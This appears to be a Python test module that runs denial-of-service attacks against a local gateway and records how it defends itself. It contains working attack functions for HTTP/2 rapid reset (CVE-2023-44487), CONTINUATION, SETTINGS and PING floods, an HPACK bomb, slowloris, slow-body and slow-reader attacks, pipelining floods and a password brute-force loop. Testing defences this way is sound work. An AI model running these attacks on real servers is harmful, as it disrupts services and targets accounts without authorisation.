"""The attacks, one function each. An attack gets the running stub and gateway and a `running`
event; it attacks until the event is cleared and returns what it saw, for the figures and checks."""

import json
import socket
import time

import h2raw
from harness import AttackFailed, get_json, login, post


def login_despite_flood(port, seconds=10):
    """Logs in from 127.0.0.1 even while another attacker from there has been turned away (its
    connections are closed at accept until the address's allowance refills)."""
    deadline = time.monotonic() + seconds
    while True:
        try:
            return login(port, source="127.0.0.1")["authToken"]
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.05)


def rapid_reset(stub, gateway, running):
    """HTTP/2 rapid reset (CVE-2023-44487): per connection, batches of 100 x (HEADERS + DATA of
    a forwarded action + RST_STREAM CANCEL), 25 batches, then a new connection."""
    token = login_despite_flood(gateway.port)
    body = json.dumps({"api": "db", "action": "listDatabases", "authToken": token}).encode()
    block = h2raw.request_headers(extra=[("content-length", str(len(body)))])
    connections = resets = calm = 0
    while running.is_set():
        connection = h2raw.Connection(gateway.port)
        connections += 1
        stream = 1
        for _ in range(25):
            batch = b"".join(h2raw.headers(s, block) + h2raw.data(s, body) + h2raw.rst(s)
                             for s in range(stream, stream + 200, 2))
            stream += 200
            if not connection.send(batch):
                break
            resets += 100
            connection.frames()
            if connection.closed or connection.goaway_code is not None or not running.is_set():
                break
        if connection.goaway_code is None and not connection.closed and running.is_set():
            connection.frames(block=True)
        calm += connection.goaway_code == h2raw.ENHANCE_YOUR_CALM
        connection.close()
    return {"connections": connections, "resetsSent": resets, "goawayEnhanceYourCalm": calm}


def wrong_password_logins(stub, gateway, running):
    """Wrong-password logins for `admin` from one address, 16 at a time, as fast as answered."""
    import threading
    counts = {"wrongLogins": 0, "throttled": 0}

    def hammer():
        connection = None
        while running.is_set():
            try:
                _, body, connection = post(gateway.port, {"api": "admin", "action": "createSession",
                                                          "params": {"username": "admin", "password": "guess"}},
                                           source="127.0.0.2", connection=connection)
                counts["wrongLogins"] += 1
                counts["throttled"] += bool(body) and body.get("errorCode") in (17036, 17037)
            except OSError:
                connection = None
    threads = [threading.Thread(target=hammer) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return counts


def unfinished_bodies(stub, gateway, running):
    """HTTP/1.1 requests announcing 16 MiB bodies that send all but the last byte and wait, 16
    connections at a time; one the gateway answers (408, or 503 with Retry-After: 1) is opened
    again 100 ms later, ten times sooner than it was asked to."""
    size = 16 << 20
    head = (f"POST /api HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\nContent-Length: {size}\r\n\r\n").encode()
    body = b" " * (size - 1)
    counts = {"bodiesSent": 0, "refused503": 0, "timedOut408": 0}
    open_ones, answered_at = [], []
    while running.is_set():
        answered_at = [t for t in answered_at if time.monotonic() - t < 0.1]
        while len(open_ones) + len(answered_at) < 16 and running.is_set():
            try:
                sock = socket.create_connection(("127.0.0.1", gateway.port), timeout=5)
                sock.sendall(head)
                sock.settimeout(0)
                open_ones.append([sock, 0])
            except OSError:
                break
        for entry in list(open_ones):
            sock = entry[0]
            try:
                # Up to 1 MiB per turn, in 64 KiB writes: the same bytes as one big write, in
                # shorter stretches of kernel work on this machine's shared cores.
                for _ in range(16):
                    if entry[1] >= len(body):
                        break
                    entry[1] += sock.send(memoryview(body)[entry[1]:entry[1] + (1 << 16)])
                    counts["bodiesSent"] += entry[1] == len(body)
                answer = sock.recv(65536)
                if answer or answer == b"":
                    counts["refused503"] += b" 503 " in answer[:16] and b"Retry-After: 1" in answer
                    counts["timedOut408"] += b" 408 " in answer[:16]
                    sock.close()
                    open_ones.remove(entry)
                    answered_at.append(time.monotonic())
            except (BlockingIOError, socket.timeout):
                pass
            except OSError:
                # Closed by the gateway before its answer was read: counts as answered too.
                sock.close()
                open_ones.remove(entry)
                answered_at.append(time.monotonic())
        time.sleep(0.01)
    for sock, _ in open_ones:
        sock.close()
    return counts


def trickled_streams(stub, gateway, running):
    """HTTP/2: 4 connections, 50 streams each with 256 KiB of body, then 1 byte per stream every
    half second, never ending the body."""
    token = login(gateway.port, source="127.0.0.1")["authToken"]
    counts = {"streamsOpened": 0, "streamsAnswered": 0}
    connections = []
    while running.is_set():
        while len(connections) < 4 and running.is_set():
            connection = h2raw.Connection(gateway.port)
            streams = list(range(1, 101, 2))
            block = h2raw.request_headers()
            for stream in streams:
                connection.send(h2raw.headers(stream, block) + h2raw.data(stream, b" " * 16384, end_stream=False))
            counts["streamsOpened"] += len(streams)
            connections.append((connection, set(streams)))
        for connection, waiting in list(connections):
            for kind, flags, stream, _ in connection.frames():
                if kind in (h2raw.HEADERS, h2raw.RST_STREAM) and stream in waiting:
                    waiting.discard(stream)
                    counts["streamsAnswered"] += 1
            for stream in waiting:
                connection.send(h2raw.data(stream, b" ", end_stream=False))
            if not waiting or connection.closed:
                connection.close()
                connections.remove((connection, waiting))
        time.sleep(0.5)
    for connection, _ in connections:
        connection.close()
    return counts


def slowloris(stub, gateway, running):
    """200 connections sending their request headers a byte every half second."""
    counts = {"slowConnections": 0, "answered408": 0}
    pending = []
    while running.is_set():
        while len(pending) < 200:
            try:
                sock = socket.create_connection(("127.0.0.1", gateway.port), timeout=5)
                sock.sendall(b"POST /api HTTP/1.1\r\nHost: gw\r\n")
                sock.settimeout(0)
                pending.append(sock)
                counts["slowConnections"] += 1
            except OSError:
                break
        for sock in list(pending):
            try:
                answer = sock.recv(4096)
                counts["answered408"] += b" 408 " in answer[:16]
                sock.close()
                pending.remove(sock)
                continue
            except (BlockingIOError, socket.timeout):
                pass
            except OSError:
                sock.close()
                pending.remove(sock)
                continue
            try:
                sock.send(b"X")
            except OSError:
                sock.close()
                pending.remove(sock)
        time.sleep(0.5)
    for sock in pending:
        sock.close()
    return counts


def slow_readers(stub, gateway, running):
    """Clients that ask for a 256 KiB answer (the stub's echo) 8 times over, and never read."""
    token = login(gateway.port, source="127.0.0.1")["authToken"]
    payload = json.dumps({"api": "db", "action": "echo", "authToken": token, "params": {"blob": "x" * (1 << 18)}}).encode()
    request = (f"POST /api HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\nContent-Length: {len(payload)}\r\n\r\n").encode() + payload
    counts = {"slowReaders": 0}
    readers = []
    while running.is_set():
        while len(readers) < 16:
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.settimeout(5)
            sock.connect(("127.0.0.1", gateway.port))
            try:
                sock.sendall(request * 8)
            except OSError:
                pass
            readers.append((sock, time.monotonic()))
            counts["slowReaders"] += 1
        for entry in list(readers):
            if time.monotonic() - entry[1] > 4:
                entry[0].close()
                readers.remove(entry)
        time.sleep(0.1)
    for sock, _ in readers:
        sock.close()
    return counts


def pipelining_flood(stub, gateway, running):
    """One connection per thread writing forwarded actions back to back without reading answers."""
    token = login(gateway.port, source="127.0.0.1")["authToken"]
    payload = json.dumps({"api": "db", "action": "listDatabases", "authToken": token}).encode()
    request = (f"POST /api HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\nContent-Length: {len(payload)}\r\n\r\n").encode() + payload
    burst = request * 1000
    counts = {"pipelinedRequests": 0}
    while running.is_set():
        sock = socket.create_connection(("127.0.0.1", gateway.port), timeout=1)
        try:
            while running.is_set():
                sock.sendall(burst)
                counts["pipelinedRequests"] += 1000
        except OSError:
            pass
        sock.close()
    return counts


def http2_floods(stub, gateway, running, kinds=("settingsFloods", "pingFloods", "continuationFloods", "hpackBombs")):
    """In turn: SETTINGS and PING floods without reading, an endless CONTINUATION chain, and an
    HPACK bomb (one big header in the table, then referenced thousands of times)."""
    counts = {kind: 0 for kind in kinds}
    bomb_first = h2raw.request_headers() + h2raw.indexed_literal("bomb", "b" * 4000)
    while running.is_set():
        for kind in counts:
            if not running.is_set():
                break
            try:
                connection = h2raw.Connection(gateway.port, timeout=2)
                if kind == "settingsFloods":
                    connection.send(h2raw.settings([(4, 65535)]) * 20000)
                elif kind == "pingFloods":
                    connection.send(h2raw.ping() * 20000)
                elif kind == "continuationFloods":
                    connection.send(h2raw.headers(1, h2raw.request_headers(), end_headers=False))
                    for _ in range(200):
                        if not connection.send(h2raw.frame(h2raw.CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)):
                            break
                else:
                    block = bomb_first + b"\xbe" * 12000
                    connection.send(h2raw.headers(1, block, end_stream=True))
                counts[kind] += 1
                connection.frames()
            except OSError:
                pass
            connection.close()
    return counts


def idle_burn(stub, gateway, running):
    """Control: burns CPU at the attackers' priority without touching the gateway."""
    spins = 0
    while running.is_set():
        for _ in range(10000):
            spins += 1
    return {"spins": spins}


def flood(*kinds):
    def attack(stub, gateway, running):
        return http2_floods(stub, gateway, running, kinds)
    return attack
